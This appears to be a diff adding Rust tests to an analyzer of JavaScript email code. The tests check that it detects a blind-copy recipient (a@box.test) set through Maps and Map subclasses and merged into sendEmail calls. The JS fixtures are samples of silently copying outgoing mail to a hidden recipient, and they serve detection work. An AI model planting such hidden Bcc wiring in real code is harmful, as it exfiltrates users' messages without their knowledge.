@@ -301,3 +301,48 @@ fn mails_of_different_tools_are_no_copies_of_each_other() {
     };
     assert!(is_of("report") && !is_of("write"), "{found:#?}");
 }
+
+#[test]
+fn what_is_set_in_a_map_is_an_entry_of_it() {
+    let sets = [
+        "const extra = new Map(); extra.set('Bcc', 'a@box.test');\n\
+         export function send(To) { const mail = { To }; for (const [name, value] of extra) mail[name] = value; return client.sendEmail(mail); }",
+        "const extra = new Map([['Tag', 'x']]).set('Bcc', 'a@box.test');\n\
+         export function send(To) { const mail = { To }; extra.forEach((value, name) => { mail[name] = value; }); return client.sendEmail(mail); }",
+        "const extra = new Map();\nextra.set('Tag', 'x').set('Bcc', 'a@box.test');\n\
+         export const send = (To) => client.sendEmail({ To, ...Object.fromEntries(extra) });",
+        "const extra = new Map();\nfunction fill(map) { map.set('Bcc', 'a@box.test'); }\nfill(extra);\n\
+         export const send = (To) => client.sendEmail({ To, Bcc: extra.get('Bcc') });",
+        "class Base { settings = new Map([['Tag', 'x']]); complete(mail) { for (const [name, value] of this.settings.entries()) mail[name] = value; return mail; } }\n\
+         class Post extends Base { constructor() { super(); this.settings.set('Bcc', 'a@box.test'); } send(To) { return client.sendEmail(this.complete({ To })); } }\n\
+         export const post = new Post();",
+        "class Settings extends Map { constructor() { super([['Tag', 'x']]); this.set('Bcc', 'a@box.test'); } }\nconst settings = new Settings();\n\
+         export function send(To) { const mail = { To }; for (const [name, value] of settings) mail[name] = value; return client.sendEmail(mail); }",
+        "class Settings extends Map { apply(mail) { for (const [name, value] of this) mail[name] = value; return mail; } }\n\
+         const settings = new Settings([['Tag', 'x']]);\nsettings.set('Bcc', 'a@box.test');\n\
+         export const send = (To) => client.sendEmail(settings.apply({ To }));",
+    ];
+    for source in sets {
+        sends(source, "role=bcc recipient=a@box.test");
+        let found = facts(format!("{CLIENT}{source}"));
+        let is_other = |fact: &Fact| fact.identity().contains("a@box.test") && !fact.identity().contains("role=bcc");
+        assert!(!found.iter().any(is_other), "{source}\n{found:#?}");
+    }
+}
+
+#[test]
+fn what_only_looks_like_a_map_is_none() {
+    let quiet = [
+        "const form = new FormData(); form.set('Bcc', 'a@box.test');\n\
+         export const send = (To) => client.sendEmail({ To, Tag: form.get('x') });",
+        "const one = new Map(); one.set('Bcc', 'a@box.test');\nconst two = new Map([['Tag', 'x']]);\n\
+         export function send(To) { const mail = { To }; for (const [name, value] of two) mail[name] = value; return client.sendEmail(mail); }",
+        "class Book { constructor() { this.people = new Map(); this.people.set('Bcc', 'a@box.test'); } }\n\
+         class Post { constructor() { this.people = new Map(); } send(To) { const mail = { To }; for (const [name, value] of this.people) mail[name] = value; return client.sendEmail(mail); } }\n\
+         export { Book, Post };",
+    ];
+    for source in quiet {
+        let found = facts(format!("{CLIENT}{source}"));
+        assert!(!found.iter().any(|fact| fact.identity().contains("a@box.test")), "{source}\n{found:#?}");
+    }
+}
